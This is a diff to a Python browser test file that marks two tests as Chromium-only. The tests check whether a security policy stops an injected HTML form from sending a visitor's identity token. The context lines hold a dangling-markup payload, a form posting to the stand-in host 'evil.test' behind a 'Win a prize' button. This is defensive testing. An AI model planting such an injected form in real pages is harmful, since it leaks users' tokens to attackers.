@@ -14,6 +14,7 @@ from browser.conftest import Tab
 from browser.site import ADA, TAG, Site
 
 pytestmark = pytest.mark.browser
+no_bodies = pytest.mark.browsers("chromium", reason="Playwright does not see the bodies of forms in Firefox.")
 
 EXAMPLE = Path(__file__).parents[2] / "example_project"
 FORM = '<form action="http://evil.test/" method="post"><button>Win a prize</button><textarea name="rest">'
@@ -61,6 +62,7 @@ def test_policy_prevents_injected_form_from_sending_the_identity(
     assert sent == []
 
 
+@no_bodies
 def test_injected_form_sends_the_identity_without_the_policy(tab: Tab, site: Site, sent: list[str]) -> None:
     """The previous test can fail: without the policy, one click sends the token of an inline page."""
     click_injected_button(tab, site, FORM + INLINE)
@@ -70,6 +72,7 @@ def test_injected_form_sends_the_identity_without_the_policy(tab: Tab, site: Sit
     assert ADA in body
 
 
+@no_bodies
 def test_deferred_page_has_no_identity_to_send(tab: Tab, site: Site, sent: list[str]) -> None:
     """Even without a policy, the rest of a deferred page contains nothing about the visitor."""
     click_injected_button(tab, site, FORM + TAG)
